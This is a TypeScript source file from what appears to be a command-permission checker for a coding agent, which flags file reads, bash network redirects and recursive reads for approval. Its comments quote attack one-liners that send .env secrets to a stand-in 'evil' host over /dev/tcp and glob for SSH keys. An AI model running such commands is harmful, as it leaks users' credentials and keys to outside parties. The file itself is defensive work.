import fs from "node:fs";
import { DecisionResult } from "../../../protocol/src/actions";
import { builtin } from "./file-subject";
import { entriesBelow, existingPaths, isDirectory, MAX_RECURSIVE_ENTRIES } from "./read-expansion";
import { commandReads, searchesCwdByDefault } from "./shell-reads";
import { SimpleCommand } from "./shell/types";

/** Devices whose reading reveals nothing of the user's: a redirect from them is not decided as a file read. */
const HARMLESS_READS = new Set(["/dev/null", "/dev/zero", "/dev/stdin", "/dev/random", "/dev/urandom", "/dev/tty", "/dev/fd/0"]);

export interface ReadDecider {
  /** Decides a read of `target` (relative to each possible working directory unless absolute). */
  read(target: string): void;
  /** Decides a read of a file found by walking a real directory (no symlink on its way). */
  readWalked(real: string): void;
  cwds: readonly string[];
  home: string;
  push(result: DecisionResult): void;
}

/**
 * Decides everything a command reads beyond its program: its read redirects, the
 * existing files its words name, paths it reads from git history, and, for a
 * recursive reader, every file below the directories it is given. Whatever the
 * program, and whatever its own rule says: a read is a read.
 */
export function decideCommandReads(cmd: SimpleCommand, d: ReadDecider): void {
  const reads = commandReads(cmd);
  for (const target of reads.network) {
    // Attack: `exec 3<>/dev/tcp/evil/80`, `cat .env > /dev/tcp/evil/443`: bash itself opens the connection.
    d.push(builtin("ask", "shell-network", `the command opens a network connection through bash (${target.slice(0, 200)})`));
  }
  // Attack: `cat < "$F"` where F is only known at run time (a secret, /dev/tcp/…).
  if (reads.dynamicRedirect) d.push(builtin("ask", "dynamic-redirect", "the command reads a file only known at run time"));
  for (const target of reads.redirected) if (!HARMLESS_READS.has(target)) d.read(target);
  for (const target of reads.history) d.read(target);
  const directories: string[] = [];
  for (const word of reads.candidates) {
    for (const cwd of word.startsWith("/") || word.startsWith("~") ? [d.cwds[0] ?? "/"] : d.cwds) {
      const found = existingPaths(word, cwd, d.home, reads.operands.includes(word));
      // Attack: `cat .e*`, `date -f ~/.ssh/id_*`: the pattern reaches files its text does not name.
      if (found === "too-many") d.push(builtin("ask", "read-pattern", `\`${word.slice(0, 200)}\` matches too many files to check each one`));
      else {
        // A directory's names are what `ls` shows; its contents count only for a recursive reader (below).
        for (const p of found) if (!HARMLESS_READS.has(p) && !isDirectory(p)) d.read(p);
        if (reads.recursive !== null) directories.push(...found.filter(isDirectory));
      }
    }
  }
  if (reads.recursive === null) return;
  if (directories.length === 0 && searchesCwdByDefault(cmd)) directories.push(...d.cwds);
  for (const dir of new Set(directories)) {
    // Attack: `grep -rn KEY .` prints the lines of .env that a plain `grep KEY .env` would ask for.
    const below = entriesBelow(realOrSelf(dir), reads.recursive === "visible");
    if (below === "too-many") {
      d.push(builtin("ask", "recursive-read", `${cmd.programName} reads everything below ${dir}, more than ${MAX_RECURSIVE_ENTRIES} entries to check; name a narrower directory`));
      continue;
    }
    for (const entry of below) {
      if (entry.link) d.read(entry.path);
      else d.readWalked(entry.path);
    }
  }
}

function realOrSelf(p: string): string {
  try {
    return fs.realpathSync.native(p);
  } catch {
    return p;
  }
}
